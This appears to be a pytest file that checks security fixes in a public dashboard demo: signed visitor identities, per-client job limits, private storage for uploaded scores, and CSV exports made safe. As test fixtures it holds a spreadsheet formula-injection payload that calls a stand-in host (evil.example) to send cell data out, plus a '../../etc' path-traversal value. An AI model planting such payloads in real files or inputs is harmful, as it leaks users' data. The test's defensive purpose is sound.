"""Hostile visitors of a public demo: forged identities, a crowd of identities, another visitor's scores,
spreadsheet formulas and server paths in exports. Each case names what main did.
"""

from __future__ import annotations

import csv
import io
import threading
import time
from pathlib import Path

import pytest

from dashboard.admission import AdmissionGate
from dashboard.compare.results import CheckpointScores, load_saved_scores, load_scores, save_scores
from dashboard.csv_export import rows_csv_bytes
from dashboard.identity import VisitorSigner
from dashboard.public import VisitorLimitError, results_location, scrub_paths


def test_a_client_chosen_identity_is_never_adopted():
    """main: ``?visitor=<any 22–64 [A-Za-z0-9_-]>`` was accepted, so an attacker's link fixed the victim's
    identity to one the attacker knew. Now only values this deployment signed name a visitor."""
    signer = VisitorSigner(b"deployment-secret-0123456789")
    attacker_chosen = ["A" * 22, "x" * 64, "attacker_chosen-token_123"]
    assert all(signer.verify(value) is None for value in attacker_chosen)
    token = signer.issue()
    visitor_id = token.split(".")[1]
    assert signer.verify(visitor_id) is None  # the bare id (as stored with history rows) is not a credential


def test_twenty_identities_of_one_client_do_not_starve_a_stranger():
    """main: the one-at-a-time slot was keyed on the client-chosen token, so N tokens ran N jobs at once
    and a newcomer queued behind all of them. Now: a global cap, turns shared by client, and one client holds
    at most one of the two places, so the stranger is admitted without waiting for a bot job to end."""
    gate = AdmissionGate(capacity=2, poll_s=0.01)
    order: list[str] = []
    releases: dict[str, threading.Event] = {}

    def job(visitor: str, client: str) -> None:
        releases[visitor] = threading.Event()
        with gate.admit(visitor, client, wait_limit_s=30):
            order.append(visitor)
            releases[visitor].wait(30)

    threads = [threading.Thread(target=job, args=(f"bot{i}", "6.6.6.6"), daemon=True) for i in range(20)]
    for t in threads:
        t.start()
    deadline = time.monotonic() + 10
    while gate.waiting < 19 and time.monotonic() < deadline:
        time.sleep(0.01)
    assert gate.running == 1 and gate.waiting == 19  # one client's share: one job, not twenty (nor both places)
    stranger = threading.Thread(target=job, args=("alice", "1.1.1.1"), daemon=True)
    stranger.start()
    while len(order) < 2 and time.monotonic() < deadline:  # the place the client may not take is hers
        time.sleep(0.01)
    assert order[1] == "alice", order
    for event in list(releases.values()):
        event.set()
    while len(order) < 21 and time.monotonic() < deadline:
        for event in list(releases.values()):
            event.set()
        time.sleep(0.01)
    assert len(order) == 21


def test_a_visitors_job_limit_cannot_be_doubled_by_a_second_tab():
    gate = AdmissionGate(capacity=4)
    with gate.admit("v", "c"), pytest.raises(VisitorLimitError), gate.admit("v", "other-client"):
        pass


def _scores(eval_set: str) -> CheckpointScores:
    row = {"id": "0", "output": "x", "scores": {"exact_match": 1.0}}
    return CheckpointScores(checkpoint="checkpoint-1", step=1, eval_set=eval_set, settings={}, settings_key="k",
                            checkpoint_signature="sig", rows=[row], total=1, eval_set_hash="h" * 64)


def test_an_uploaded_sets_scores_stay_with_the_visitor(tmp_path: Path):
    """main: a visitor's uploaded set was scored into the shared run folder, so every visitor's Timeline
    showed it under the uploader's file name. Now it goes to the data dir, keyed by visitor."""
    run, data = tmp_path / "runs" / "demo", tmp_path / "data"
    run.mkdir(parents=True)
    home, fallback = results_location(run, data, "visitorA_0123456789", shared=False)
    save_scores(home, _scores("my-private-upload"), fallback)
    assert not (run / "eval_results").exists()  # nothing in the run folder
    assert load_saved_scores(run, data).empty  # Timeline (every visitor) sees nothing of it
    other_home, other_fallback = results_location(run, data, "visitorB_0123456789", shared=False)
    assert load_scores(other_home, "my-private-upload", "checkpoint-1", other_fallback) is None
    assert load_scores(home, "my-private-upload", "checkpoint-1", fallback) is not None  # the uploader's own
    assert results_location(run, data, "visitorA_0123456789", shared=True) == (run, data)  # the run's own set
    with pytest.raises(ValueError):
        results_location(run, data, "../../etc", shared=False)


def test_exports_are_formula_safe_and_carry_no_server_path(tmp_path: Path):
    """main: History and Batch CSVs wrote ``=HYPERLINK(…)`` cells as live formulas, and history exports
    carried absolute run paths."""
    runs = tmp_path / "runs"
    rows = [{"prompt": '=HYPERLINK("https://evil.example/?"&A1,"open")', "output": "+1", "n": -3,
             "run": str(runs / "demo"), "checkpoint_path": str(runs / "demo" / "checkpoint-1"),
             "elsewhere": "/etc/hostname"}]
    text = rows_csv_bytes(scrub_paths(rows, [runs], env={"VLMLAB_PUBLIC": "1"})).decode()
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["prompt"].startswith("'=") and row["output"] == "'+1" and row["n"] == "-3"  # numbers stay numbers
    assert row["run"] == "demo" and row["checkpoint_path"] == "demo/checkpoint-1" and row["elsewhere"] == "hostname"
    assert str(tmp_path) not in text
